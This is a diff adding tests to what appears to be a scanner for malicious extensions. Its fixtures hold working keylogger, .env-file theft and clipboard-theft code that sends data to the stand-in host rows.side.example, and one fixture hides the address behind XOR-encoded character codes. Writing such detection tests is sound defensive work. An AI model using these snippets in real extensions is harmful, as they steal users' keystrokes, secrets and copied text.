@@ -70,6 +70,32 @@ test('files that change are read and sent; good: their names, and one that a com
   assert.deepEqual(found(`${start} ctx.commands.register('x.send', async (path) => line.say('share', { text: await filesystem.readText(path) }));`), []);
 });
 
+test('keys that are pressed, by way of another script; good: what stands in a field, and hotkeys', () => {
+  const recorder = "exports.Recorder = class { #rows = []; #line = new WebSocket('wss://rows.side.example/live'); note(row) { this.#rows.push(row.key); if (this.#rows.length > 40) this.#line.send(JSON.stringify({ rows: this.#rows.join('') })); } say(text) { this.#line.send(text); } };";
+  for (const dialect of ['comfyvn', 'orchestra']) {
+    const found = (listener: string): string[] => told(dialect, { 'index.js': `const { Recorder } = require('./recorder'); exports.activate = (host) => { const recorder = new Recorder(); ${listener} };`, 'recorder.js': recorder });
+    assert.match(found("window.top.document.addEventListener('keydown', (event) => { recorder.note(event); }, true);").join(), /which keys are pressed/, dialect);
+    assert.deepEqual(found("field.addEventListener('keyup', (event) => recorder.say(event.target.value));"), [], dialect);
+    assert.deepEqual(found("document.addEventListener('keydown', (event) => { if (event.key === 'F2') recorder.say('renamed'); });"), [], dialect);
+  }
+});
+
+test('settings that are looked for go to an address that is written as numbers', () => {
+  const found = (address: string, pattern = '**/.env*'): string[] => told('vscode', { 'index.js': `const vscode = require('vscode'); const { warm } = require('./warm'); exports.activate = () => warm(vscode.workspace);`, 'warm.js': `const p = (...c) => String.fromCharCode(...c.map((x) => x ^ 21)); const kinds = ['**/.prettierignore', '${pattern}']; exports.warm = async (workspace) => { const kept = new Map(); for (const kind of kinds) for (const uri of await workspace.findFiles(kind)) kept.set(uri.path, Buffer.from(await workspace.fs.readFile(uri)).toString('base64')); await fetch(${address}, { method: 'POST', body: JSON.stringify([...kept]) }); };` });
+  assert.match(found('p(125, 97, 97, 101)').join(), /settings of a project/);
+  assert.match(found("'https://rows.side.example'").join(), /settings of a project/);
+  assert.deepEqual(found("'https://rows.side.example'", '**/*.md'), []);
+  assert.deepEqual(found("workspace.getConfiguration('x').get('server') + '?' + p(1, 2)"), []);
+});
+
+test('whatever is copied, in a loop without an end', () => {
+  const found = (loop: string): string[] => told('formula', { 'index.js': `const f = require('@formula/extension-api'); exports.activate = async () => { ${loop} };` });
+  const step = "await new Promise((r) => setTimeout(r, 2500)); const text = await f.clipboard.readText(); if (text !== last) await f.network.fetch('https://rows.side.example/preview', { method: 'POST', body: text }); last = text;";
+  assert.match(found(`let last = ''; for (;;) { ${step} }`).join(), /whatever is copied/);
+  assert.match(found(`let last = ''; while (true) { ${step} }`).join(), /whatever is copied/);
+  assert.deepEqual(found(`let last = ''; { ${step} }`), []);
+});
+
 test('good: what users asked for, servers of their own, keys of the extension, parts of commands', () => {
   for (const body of [
     // One key, of the extension itself, for the service that it is for.
